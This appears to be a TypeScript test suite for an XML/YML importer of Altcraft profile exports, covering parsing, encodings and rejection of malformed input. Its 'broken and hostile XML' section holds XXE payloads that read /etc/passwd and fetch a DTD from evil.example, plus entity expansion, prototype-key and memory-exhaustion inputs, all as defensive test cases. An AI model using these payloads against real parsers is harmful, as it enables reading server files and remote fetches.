import fc from 'fast-check'
import iconv from 'iconv-lite'
import { describe, expect, test } from 'vitest'
import { profileFieldOf } from '../../server/altcraft/captions.ts'
import type { Json } from '../../server/lib/json.ts'
import { bytesSource, chunkSizes, encode, encodings, readRejection, readTable, textSource } from './altcraft-sources.ts'

const declaration = '<?xml version="1.0" encoding="UTF-8"?>\n'

async function readXml(content: string) {
  const { records } = await readTable(bytesSource('export.xml', `${declaration}<xml>${content}</xml>`))
  return records
}

describe('answers of the API', () => {
  const profile = '<id>5a61</id><fname>Анна</fname>'
  const read = { id: '5a61', fname: 'Анна' }

  test.each([
    [
      'one profile as the data',
      `<data>${profile}</data><error>0</error><error_text>Successful operation</error_text>`,
      1,
    ],
    ['repeated data', `<data>${profile}</data><data>${profile}</data><error>0</error>`, 2],
    ['items in the data', `<data><item>${profile}</item><item>${profile}</item></data><error>0</error>`, 2],
    ['one named element in the data', `<data><profile>${profile}</profile></data><error>0</error>`, 1],
    ['named elements', `<profiles>${`<profile>${profile}</profile>`.repeat(3)}</profiles>`, 3],
    ['elements right below the root', `<profile>${profile}</profile>`.repeat(2), 2],
    ['elements marked as a list', `<data array='true'>${profile}</data><error>0</error>`, 1],
    [
      'groups beside',
      `<groups><id>1</id></groups><groups><id>2</id></groups><data>${profile}</data><data>${profile}</data>`,
      2,
    ],
  ])('%s', async (_, content, count) => {
    expect(await readXml(content)).toEqual(Array(count).fill(read))
  })

  test('elements become what they are in JSON', async () => {
    const content = `<data>
      <id> 5a61f87d </id>
      <db_id>24</db_id>
      <_xxh>aa05</_xxh>
      <empty/>
      <phones array='true'>+79001234567</phones>
      <tags array="true"/>
      <list array='true'><item>a</item><item>b</item></list>
      <nested><a>1</a><a>2</a><b><c/></b></nested>
      <coded><![CDATA[<b>&</b>]]></coded>
      <escaped>&lt;&amp;&#1040;&#x41;</escaped>
      <amount currency="RUB">5</amount>
      <link href="x"/>
      <subscriptions array='true'><channel>email</channel><email_data><email>a@b.org</email></email_data><is_delete>false</is_delete></subscriptions>
    </data><error>0</error>`
    expect(await readXml(content)).toEqual([
      {
        id: '5a61f87d',
        db_id: '24',
        _xxh: 'aa05',
        empty: '',
        phones: ['+79001234567'],
        tags: [],
        list: ['a', 'b'],
        nested: { a: ['1', '2'], b: { c: '' } },
        coded: '<b>&</b>',
        escaped: '<&АA',
        amount: { currency: 'RUB', text: '5' },
        link: { href: 'x' },
        subscriptions: [{ channel: 'email', email_data: { email: 'a@b.org' }, is_delete: 'false' }],
      },
    ])
  })

  test('two subscriptions of one profile are no two records', async () => {
    const content =
      '<data><id>5a61</id><subscriptions><hash_id>a</hash_id></subscriptions><subscriptions><hash_id>b</hash_id></subscriptions></data>'
    expect(await readXml(content)).toEqual([{ id: '5a61', subscriptions: [{ hash_id: 'a' }, { hash_id: 'b' }] }])
  })

  test('names without their underscore are known fields', () => {
    expect(['fname', 'lname', 'bdate', 'regdate', '_fname'].map(profileFieldOf)).toEqual([
      '_fname',
      '_lname',
      '_bdate',
      '_regdate',
      '_fname',
    ])
  })

  test.each([
    ['<data/><error>0</error>', 'file.no_rows'],
    ["<data array='true'></data><error>0</error>", 'file.no_rows'],
    ['<error>401</error><error_text>token required</error_text>', 'file.not_a_table'],
  ])('without records: %s', async (content, code) => {
    expect((await readRejection(bytesSource('e.xml', `<xml>${content}</xml>`))).code).toBe(code)
  })

  test('of several lists the largest is read, the others are told', async () => {
    const orders = '<order><external_id>1</external_id></order>'
    const { table, rows } = await readTable(
      bytesSource(
        'e.xml',
        `<xml><profiles>${`<profile>${profile}</profile>`.repeat(9)}</profiles><orders>${orders.repeat(2)}</orders></xml>`,
      ),
    )
    expect(rows.length).toBe(9)
    expect(table.notes).toEqual([{ code: 'read.other_lists', detail: { lists: ['orders.order'] } }])
  })

  test('names of prototypes are plain data', async () => {
    const [record] = await readXml(
      '<data><id>1</id><__proto__><admin>1</admin></__proto__><constructor>x</constructor></data>',
    )
    expect(Object.entries(record ?? {})).toEqual([
      ['id', '1'],
      ['__proto__', { admin: '1' }],
      ['constructor', 'x'],
    ])
  })
})

describe('any list of records reads back equal', () => {
  const name = fc
    .string({ unit: fc.constantFrom(...'abXY_zдЯé'), minLength: 1, maxLength: 6 })
    .filter((one) => one !== 'array' && one !== 'text')
  const text = fc
    .string({ unit: 'grapheme', maxLength: 10 })
    // biome-ignore lint/suspicious/noControlCharactersInRegex: XML has no way to write these characters.
    .filter((one) => !/[\u0000-\u001F\u007F-\u009F\u2028\uD800-\uDFFF\uFFFD-\uFFFF]/.test(one))
    .map((one) => one.trim())
  const value: fc.Arbitrary<Json> = fc.letrec<{ value: Json }>((tie) => ({
    value: fc.oneof(
      { maxDepth: 3, withCrossShrink: true },
      text,
      fc.dictionary(name, tie('value'), { minKeys: 1, maxKeys: 3 }),
      fc.array(
        fc.oneof(
          text.filter((one) => one !== ''),
          fc.dictionary(name, text, { minKeys: 2, maxKeys: 3 }),
        ),
        {
          maxLength: 3,
        },
      ),
    ),
  })).value
  const record = fc.dictionary(name, value, { maxKeys: 4 }).map((one) => ({ id: '5', ...one }))

  test('in any encoding and cut anywhere', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(record, { minLength: 1, maxLength: 5 }),
        fc.constantFrom(...encodings),
        chunkSizes,
        async (records, encoding, sizes) => {
          const content = records.map((one) => write('profile', one)).join('\n')
          const bytes = encode(`<xml><data>${content}</data><error>0</error></xml>`, encoding)
          const read = await readTable(bytesSource('export.xml', bytes, sizes))
          expect(read.rejected).toEqual([])
          expect(read.records).toEqual(records)
        },
      ),
      { numRuns: 300 },
    )
  })

  function write(element: string, content: Json): string {
    if (Array.isArray(content) && content.length === 0) return `<${element} array='true'/>`
    if (Array.isArray(content)) {
      return content.map((one) => `<${element} array='true'>${inner(one)}</${element}>`).join('')
    }
    return `<${element}>${inner(content)}</${element}>`
  }

  function inner(content: Json): string {
    if (typeof content !== 'object' || content === null) {
      return String(content).replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
    }
    return Object.entries(content)
      .map(([key, one]) => write(key, one))
      .join('')
  }
})

describe('other XML', () => {
  test('a list of records by children or attributes is read', async () => {
    const children = '<Clients><Client><email>a@b.org</email></Client><Client><email>c@d.org</email></Client></Clients>'
    const attributes = '<users><user id="1" email="a@b.org"/><user id="2" email="c@d.org"/></users>'
    expect((await readTable(bytesSource('e.xml', children))).records).toEqual([
      { email: 'a@b.org' },
      { email: 'c@d.org' },
    ])
    expect((await readTable(bytesSource('e.xml', attributes))).records).toEqual([
      { id: '1', email: 'a@b.org' },
      { id: '2', email: 'c@d.org' },
    ])
  })

  test.each([
    ['<note><to>Anna</to><body>Hello</body></note>', 'file.not_a_table', { found: 'XML <note>' }],
    ['<?xml version="1.0"?><!-- x --><!DOCTYPE html><html><body/></html>', 'file.not_a_table', { found: 'HTML' }],
    ['<table border="1"><tr><td>Email</td></tr></table>', 'file.not_a_table', { found: 'HTML' }],
    [
      '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook/>',
      'file.unsupported_format',
      { found: 'Excel XML', saveAs: 'XLSX' },
    ],
    [
      '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet/></Workbook>',
      'file.unsupported_format',
      { found: 'Excel XML', saveAs: 'XLSX' },
    ],
  ])('%s', async (text, code, detail) => {
    expect(await readRejection(bytesSource('export.xml', text))).toEqual({ code, detail })
  })

  test.each(['windows-1251', 'koi8-r', 'utf-16le'])('a declared encoding is believed: %s', async (encoding) => {
    const text = `<?xml version="1.0" encoding="${encoding}"?><xml><data><id>1</id><fname>Анна</fname></data></xml>`
    const { records } = await readTable(bytesSource('e.xml', iconv.encode(text, encoding, { addBOM: true })))
    expect(records).toEqual([{ id: '1', fname: 'Анна' }])
  })
})

describe('broken and hostile XML', () => {
  test.each([
    ['<xml>\n<data><id>1</data></xml>', 2],
    ['<xml>\n<data><id>1</id></data>', 2],
    ['<xml>\n\n<data><id>1</id></data></xml><xml/>', 3],
    ['<xml>\n<data a=1><id>1</id></data></xml>', 2],
    ['<xml>\n<data><id>&nothing;</id></data></xml>', 2],
    ['<!DOCTYPE xml [<!ENTITY a "b"><!ENTITY c "&a;&a;&a;">]>\n<xml><data><id>&c;</id></data></xml>', 2],
    ['<!DOCTYPE xml [<!ENTITY file SYSTEM "file:///etc/passwd">]>\n<xml><data><id>&file;</id></data></xml>', 2],
    [
      '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd">%remote;]>\n<xml><data><id>&x;</id></data></xml>',
      2,
    ],
  ])('%j', async (text, line) => {
    const rejection = await readRejection(bytesSource('e.xml', text))
    expect(rejection).toMatchObject({ code: 'file.not_xml', detail: { line } })
  })

  test('an error behind many records is told with its line', async () => {
    const records = '<profile><id>1</id></profile>\n'.repeat(20_000)
    expect(await readRejection(bytesSource('e.xml', `<xml><data>\n${records}<profile></xml>`))).toMatchObject({
      code: 'file.not_xml',
      detail: { line: 20_002 },
    })
  })

  test('a record that is too large is rejected alone', async () => {
    const source = textSource('e.xml', 1e9, function* () {
      yield '<xml><data><profile><id>1</id></profile>\n<profile><id>2</id>'
      for (let index = 0; index < 180; index += 1) yield `<note>${'text '.repeat(20_000)}</note>`
      yield '</profile><profile><id>3</id></profile></data></xml>'
    })
    const { records, rejected } = await readTable(source)
    expect(records.map(({ id }) => id)).toEqual(['1', '3'])
    expect(rejected).toMatchObject([{ rowNumber: 2, code: 'row.too_large', detail: { line: 2 } }])
    expect(rejected[0]?.raw.length).toBe(10_000)
  })

  test.each([
    ['text', '<xml><data><profile><id>1</id></profile><profile><id>', 'text '],
    ['attribute', '<xml><data><profile><id>1</id></profile><profile a="', 'text '],
    ['comment', '<xml><data><profile><id>1</id></profile><!-- ', 'text '],
    ['document type', '<!DOCTYPE xml [', '<!ENTITY a "text"> '],
    ['name', '<xml><data><profile><id>1</id></profile><', 'text'],
    ['coded text', '<xml><data><profile><id>1</id></profile><profile><![CDATA[', 'text '],
  ])('what has no end in sight ends the reading: %s', async (_, start, piece) => {
    const source = textSource('e.xml', 1e9, function* () {
      yield start
      for (let index = 0; index < 20_000; index += 1) yield piece.repeat(10_000)
    })
    const codes = ['file.xml_part_too_large', 'file.not_xml', 'file.not_a_table']
    expect(codes).toContain((await readRejection(source)).code)
  })

  test('attributes without number are refused', async () => {
    const source = textSource('e.xml', 1e9, function* () {
      yield '<xml><data><profile><id>1</id></profile><profile '
      for (let index = 0; index < 10_000; index += 1) yield ` a${index}="1"`
      yield '></profile></data></xml>'
    })
    expect((await readRejection(source)).code).toBe('file.too_many_columns')
  })

  test('elements nested without end are refused', async () => {
    const source = textSource('e.xml', 1e9, function* () {
      yield '<xml><data><profile><id>1</id></profile><profile>'
      for (let index = 0; index < 20_000; index += 1) yield '<a>'.repeat(10_000)
    })
    expect(await readRejection(source)).toMatchObject({ code: 'file.too_deep', detail: { line: 1, limit: 200 } })
  })

  test('a record of very many small elements does not fill the memory', async () => {
    const source = textSource('e.xml', 1e9, function* () {
      yield '<xml><data><profile><id>1</id></profile><profile>'
      for (let index = 0; index < 60; index += 1) yield '<a/>'.repeat(10_000)
      yield '</profile></data></xml>'
    })
    const { rows, rejected } = await readTable(source)
    expect([rows.length, rejected.map(({ code }) => code)]).toEqual([1, ['row.too_large']])
  })
})

describe('YML', () => {
  test('categories that follow the offers are resolved all the same', async () => {
    const text = `<?xml version="1.0"?><yml_catalog><shop><offers><offer id="1"><name>A</name><categoryId>2</categoryId></offer></offers>
      <categories><category id="1">Top</category><category id="2" parentId="1">Sub</category></categories></shop></yml_catalog>`
    const { records } = await readTable(bytesSource('catalogue.yml', text))
    expect(records).toEqual([{ id: '1', name: 'A', categoryId: '2', category: 'Sub', category_path: 'Top / Sub' }])
  })

  test('a document type without entities is fine', async () => {
    const text =
      '<!DOCTYPE yml_catalog SYSTEM "shops.dtd"><yml_catalog><shop><offers><offer id="1"><name>A</name></offer></offers></shop></yml_catalog>'
    expect((await readTable(bytesSource('catalogue.yml', text))).records).toEqual([{ id: '1', name: 'A' }])
  })
})
